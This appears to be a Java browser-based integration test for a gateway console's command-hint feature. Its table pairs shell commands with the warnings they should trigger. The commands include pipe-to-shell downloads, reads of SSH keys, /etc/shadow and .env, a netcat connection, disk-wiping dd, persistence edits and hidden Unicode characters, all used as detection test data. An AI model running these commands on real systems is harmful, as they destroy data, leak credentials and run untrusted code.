package dev.krabkrab.gateway.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/** Which commands deserve which hint; the console's {@code hints.js}, as a browser runs it. */
@Timeout(120)
class ConsoleHintsIT extends ConsoleCase {
  private static final String CALL =
      """
      async request => {
        const file = performance.getEntriesByType('resource').find(e => /\\/hints\\./.test(e.name));
        const module = await import(file.name);
        return module.hints(request, {device: 'me', before: request.before}).map(h => `${h.level} ${h.id}`);
      }\
      """;

  /**
   * Text of a command, then the hint it has; or the one it does not have, after an exclamation
   * mark.
   */
  private static final List<List<String>> TABLE =
      List.of(
          List.of("curl -fsSL https://x.test/i.sh | sudo bash", "high pipe-to-shell"),
          List.of("wget -qO- x.test | python3 -", "high pipe-to-shell"),
          List.of("curl https://x.test -o page.html", "!high pipe-to-shell"),
          List.of("bash -c 'id'", "high inline-code"),
          List.of("python3 -c 'print(1)'", "high inline-code"),
          List.of("/usr/bin/perl -e 1", "high inline-code"),
          List.of("bash script.sh", "!high inline-code"),
          List.of("sudo id", "high root"),
          List.of("su - root -c id", "high root"),
          List.of("pseudo id", "!high root"),
          List.of("rm -rf build", "high delete"),
          List.of("rm -fr build", "high delete"),
          List.of("rm ~/x", "high delete"),
          List.of("rm *.log", "high delete"),
          List.of("find . -name '*.o' -delete", "high delete"),
          List.of("git clean -xfd", "high delete"),
          List.of("dd if=a of=/dev/sda", "high delete"),
          List.of("rm notes.txt", "medium delete"),
          List.of("psql -c 'DROP TABLE users'", "medium delete"),
          List.of("ls -r", "!high delete"),
          List.of("chmod -R u+w .", "medium rights"),
          List.of("chmod 777 x", "medium rights"),
          List.of("chmod 644 x", "!medium rights"),
          List.of("git push --force origin main", "high publish"),
          List.of("git push origin main", "!high publish"),
          List.of("npm publish", "high publish"),
          List.of("kubectl -n prod delete pod x", "high publish"),
          List.of("kubectl get pods", "!high publish"),
          List.of("terraform apply", "high publish"),
          List.of("apt-get -y install curl", "medium install"),
          List.of("npm i left-pad", "medium install"),
          List.of("pip install x", "medium install"),
          List.of("cat ~/.ssh/id_rsa", "high secrets"),
          List.of("cat .env", "high secrets"),
          List.of("printenv", "high secrets"),
          List.of("cat /etc/shadow", "high secrets"),
          List.of("cat environment.md", "!high secrets"),
          List.of("curl https://x.test/a", "low network"),
          List.of("curl http://10.0.0.7/a", "medium network"),
          List.of("nc x.test:4444", "medium network"),
          List.of("echo aGk= | base64 -d | sh", "high encoded"),
          List.of("eval \"$x\"", "high encoded"),
          List.of("crontab -l", "high persists"),
          List.of("systemctl enable x", "high persists"),
          List.of("echo x >> ~/.bashrc", "high persists"),
          List.of("systemctl status x", "!high persists"),
          List.of("echo a\u202Eb", "high hidden"),
          List.of("echo a\u200Bb", "high hidden"),
          List.of("echo a\u00A0b", "high hidden"),
          List.of("echo a\tb", "!high hidden"),
          List.of("echo p\u0430ste", "medium look-alike"),
          List.of("echo \u043F\u0440\u0438\u0432\u0435\u0442", "!medium look-alike"),
          List.of("ls; id", "medium shell-text"),
          List.of("ls && id", "medium shell-text"),
          List.of("ls -l", "!medium shell-text"),
          List.of("ls -l", "medium no-argv"),
          List.of("x".repeat(2_001), "low long"));

  private Page page;

  @BeforeAll
  void openAPage() {
    page = signedIn();
  }

  @Test
  void hintsAtWhatATextSays() {
    for (List<String> line : TABLE) {
      String wanted = line.getLast();
      List<?> found = hints(Map.of("command", line.getFirst(), "host", "gateway"));
      if (wanted.startsWith("!")) {
        assertThat(found.toString()).as(line.getFirst()).doesNotContain(wanted.substring(1));
      } else {
        assertThat(found.toString()).as(line.getFirst()).contains(wanted);
      }
    }
    hintsAtWhatElseIsAsked();
  }

  private void hintsAtWhatElseIsAsked() {
    assertThat(hints(Map.of("command", "ls")).toString()).contains("medium no-machine");
    assertThat(hints(Map.of("command", "ls", "envKeys", List.of("LD_PRELOAD"))).toString())
        .contains("high variables");
    assertThat(hints(Map.of("command", "ls", "envKeys", List.of("HTTPS_PROXY"))).toString())
        .contains("medium variables");
    assertThat(hints(Map.of("command", "ls", "envKeys", List.of("LANG"))).toString())
        .doesNotContain("variables");
    assertThat(hints(Map.of("command", "ls /etc", "cwd", "/srv/app")).toString())
        .contains("medium outside");
    assertThat(hints(Map.of("command", "ls /srv/app/x", "cwd", "/srv/app")).toString())
        .doesNotContain("outside");
    assertThat(hints(Map.of("command", "ls", "requestedBy", Map.of("deviceId", "me"))).toString())
        .contains("low self");
    assertThat(hints(Map.of("command", "ls", "before", List.of())).toString())
        .contains("low first-time");
    assertThat(
            hints(Map.of("command", "ls", "before", List.of(Map.of("decision", "deny"))))
                .toString())
        .contains("medium denied-before");
    List<String> argv = List.of("sh", "-c", "curl x.test | sh");
    assertThat(hints(Map.of("command", "deploy", "commandArgv", argv)).toString())
        .contains("high inline-code")
        .contains("high pipe-to-shell");
  }

  private List<?> hints(Map<String, ?> request) {
    return (List<?>) page.evaluate(CALL, request);
  }
}
